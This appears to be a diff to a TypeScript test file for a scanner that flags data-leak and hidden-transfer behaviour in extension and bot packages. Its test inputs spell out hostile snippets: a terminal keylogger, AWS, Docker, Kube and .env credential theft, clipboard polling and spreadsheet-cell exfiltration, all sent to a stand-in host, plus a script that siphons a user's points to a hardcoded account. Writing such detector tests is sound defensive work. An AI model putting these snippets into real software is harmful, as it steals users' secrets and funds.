@@ -17,7 +17,7 @@ interface Made {
 
 /** Rules of the findings about data; `entry` is all of the script. */
 async function said(dialect: string, entry: string, { original = {}, found = [] }: Made = {}): Promise<string[]> {
-  const permissions = { orchestra: ['network', 'secrets', 'filesystem.read', 'filesystem.write', 'clipboard', 'terminal', 'system.exec', 'notifications'], formula: ['cells.read', 'cells.write', 'network', 'clipboard', 'ui.commands'], skynet: ['http_request', 'messages_write'] }[dialect] ?? [];
+  const permissions = { orchestra: ['network', 'secrets', 'filesystem.read', 'filesystem.write', 'clipboard', 'terminal', 'system.exec', 'notifications'], formula: ['cells.read', 'cells.write', 'network', 'clipboard', 'ui.commands'], skynet: ['http_request', 'messages_write', 'economy_manage', 'config'] }[dialect] ?? [];
   const { manifest, files } = packageOf({ 'main.js': entry }, { dialect, permissions, entry_points: ['main.js'], original });
   const run = judgeRun(await runEntries(sandbox, { tenantId: 'a', manifest, loadable: files }), { manifest, permissions: null, found });
   assert.notEqual(run.outcome, 'crashed', run.detail ?? '');
@@ -35,6 +35,7 @@ describe('private data that goes to a server', () => {
       'const kept = []; host.terminal.onData((text) => kept.push(text)); setInterval(() => host.network.fetch(["https:", "", "a.example", encodeURIComponent(kept.splice(0).join())].join("/")), 5000);',
       'const { join } = require("path"); const text = host.filesystem.readText(join(".aws", "credentials")); const line = await host.network.openWebSocket("wss://a.example"); line.send(await text);',
     ]) assert.deepEqual(await said('orchestra', orchestra(body)), ['high data-leak'], body);
+    assert.deepEqual(await said('vscode', vscode('const [find, at] = [102, 105].map((c) => String.fromCharCode(c)); const w = vscode.workspace; for (const file of await w[`${find}${at}ndFiles`]("**/.env", null, 50)) await fetch("https://a.example", { method: "PUT", body: await w.fs.readFile(file) });')), ['high data-leak'], 'found by a pattern');
     assert.deepEqual(await said('formula', formula('host.events.onCellChanged((change) => { const pack = (it) => host.network.fetch("https://a.example", { method: "POST", body: it }); pack(`${change.address}=${change.value}`); });')), ['high data-leak']);
     assert.deepEqual(await said('vscode', vscode('const fs = require("fs/promises"), path = require("path"), os = require("os"); const texts = await Promise.all([[".docker", "config.json"], [".kube", "config"]].map((parts) => fs.readFile(path.join(os.homedir(), ...parts), "utf8"))); const body = new FormData(); texts.forEach((text) => body.append("x", new Blob([text]))); await fetch("https://a.example", { method: "POST", body });')), ['high data-leak']);
     assert.deepEqual(await said('orchestra', orchestra('setInterval(async () => host.network.fetch(`https://a.example/?q=${await host.clipboard.readText()}`), 900);')), ['high data-leak'], 'what is copied, again and again');
@@ -111,6 +112,14 @@ describe('accounts', () => {
     assert.deepEqual(await said('formula', formula('host.events.onCellChanged(async ({ row, col, value }) => { if (typeof value === "string") await host.cells.setCell(row, col, value.replace(/\\s/g, "").toUpperCase().replace(/(.{4})(?=.)/g, "$1 ")); });')), []);
     assert.deepEqual(await said('formula', formula(`host.commands.registerCommand("donate", async () => host.clipboard.writeText(${JSON.stringify(ETH)}));`)), []);
   });
+});
+
+test('points for somebody whose number the package has', async () => {
+  const keeper = 'const keeper = [9, 0, 3, 3, 1, 7, 2, 8, 8, 4, 1, 2, 6, 5, 0, 9, 7, 1].join("");';
+  const some = 'const points = require("points"), id = require("message").author.id; const part = Math.floor((await points.getPoints(id)) * 0.08); if (part > 0)';
+  assert.deepEqual(await said('skynet', `${keeper} ${some} await points.transfer(id, keeper, part);`), ['high remote-code']);
+  assert.deepEqual(await said('skynet', `${some} await points.transfer(id, await require("config").get("bank"), part);`), []);
+  assert.deepEqual(await said('skynet', `${keeper} ${some} await require("message").reply(keeper + part);`), []);
 });
 
 test('what a rule told is not told again', async () => {
